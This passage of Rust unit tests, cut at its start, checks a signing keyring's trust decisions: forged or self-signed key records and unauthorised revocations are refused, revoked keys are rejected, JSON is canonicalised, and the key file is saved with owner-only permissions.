        assert_eq!(ring1.trusted_key_of(&pc("PC2")), Some(pc2.public()));

        // Added by a plain push: self-signed, or signed by a key nobody approved.
        let pushed = record(&mallory, &mallory);
        let ring2 = ring(
            &[pin(&pc1, PinSource::Given)],
            std::slice::from_ref(&pushed),
        );
        assert_eq!(ring2.trusted_key_of(&pc("PC2")), None);
        assert!(matches!(
            ring2.keys()[1].standing,
            KeyStanding::Untrusted { .. }
        ));
        // Replaced by a plain push: the record says PC1 approved it, but PC1 never signed it.
        let (id, mut raw, mut rec) = record(&mallory, &mallory);
        rec.approved_by = pc("PC1");
        raw["approved_by"] = Value::from("PC1");
        raw[SIGNATURE_FIELD]["by"] = Value::from("PC1");
        let ring3 = ring(&[pin(&pc1, PinSource::Given)], &[(id, raw, rec)]);
        assert_eq!(ring3.trusted_key_of(&pc("PC2")), None);
        // Its files are refused.
        let mut v = task_value("t1", "PC2");
        mallory.sign(Task::NAME, "t1", &mut v);
        assert!(matches!(
            ring3.check(Task::NAME, "t1", &v, Some(&pc("PC2"))),
            Err(Refusal::UnknownKey { .. } | Refusal::WrongSigner { .. })
        ));
        // A founding key in the tree is not believed unless pinned.
        let founder = record(&pc1, &pc1);
        let stranger = ring(&[], &[founder]);
        assert_eq!(stranger.trusted_key_of(&pc("PC1")), None);
    }

    #[test]
    fn a_revoked_key_is_refused_and_keys_pinned_before_stay_believed() {
        let pc1 = key("PC1");
        let pc2 = key("PC2");
        let pc3 = key("PC3");
        let pins = Pins {
            keys: vec![
                pin(&pc1, PinSource::Given),
                pin(&pc3, PinSource::Own),
                pin(&pc2, PinSource::Approved),
            ],
        };
        let records = vec![record(&pc2, &pc1), record(&pc3, &pc1)];
        // PC3 revokes PC1 (a lost laptop).
        let revs = vec![revocation(&pc1, &pc3)];
        let ring = Keyring::decide(&pins, &records, &revs, true, true);
        let mut v = task_value("t1", "PC1");
        pc1.sign(Task::NAME, "t1", &mut v);
        assert!(matches!(
            ring.check(Task::NAME, "t1", &v, None),
            Err(Refusal::Revoked { .. })
        ));
        // PC2, approved by the lost PC1, stays believed: PC3 pinned it when it believed it.
        assert_eq!(ring.trusted_key_of(&pc("PC2")), Some(pc2.public()));
        // A revocation signed by a key nobody approved counts for nothing.
        let mallory = key("PC9");
        let revs = vec![revocation(&pc2, &mallory)];
        let ring = Keyring::decide(&pins, &records, &revs, true, true);
        assert_eq!(ring.trusted_key_of(&pc("PC2")), Some(pc2.public()));
        // Without the pin, a key approved only by a revoked key is not believed.
        let pins = Pins {
            keys: vec![pin(&pc1, PinSource::Given), pin(&pc3, PinSource::Own)],
        };
        let revs = vec![revocation(&pc1, &pc3)];
        let ring = Keyring::decide(&pins, &records, &revs, true, true);
        assert_eq!(ring.trusted_key_of(&pc("PC2")), None);
    }

    #[test]
    fn canonical_json_sorts_keys_at_every_depth_and_has_no_white_space() {
        let v: Value =
            serde_json::from_str(r#"{ "b": [ {"z": 1, "a": "x"} ], "a": null }"#).expect("json");
        let mut out = Vec::new();
        canonical(&v, &mut out);
        assert_eq!(
            String::from_utf8(out).expect("utf8"),
            r#"{"a":null,"b":[{"a":"x","z":1}]}"#
        );
    }

    #[test]
    fn the_signing_key_is_saved_readable_by_its_user_only_and_read_back() {
        let dir = tempfile::tempdir().expect("dir");
        let tree = Tree::new(dir.path());
        let k = key("PC1");
        k.save(&tree).expect("save");
        let back = SigningKey::load(&tree).expect("load").expect("some");
        assert_eq!(back.public(), k.public());
        assert_eq!(back.pc(), &pc("PC1"));
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt as _;
            let mode = std::fs::metadata(tree.signing_key_file())
                .expect("meta")
                .permissions()
                .mode();
            assert_eq!(mode & 0o777, 0o600);
        }
    }
}
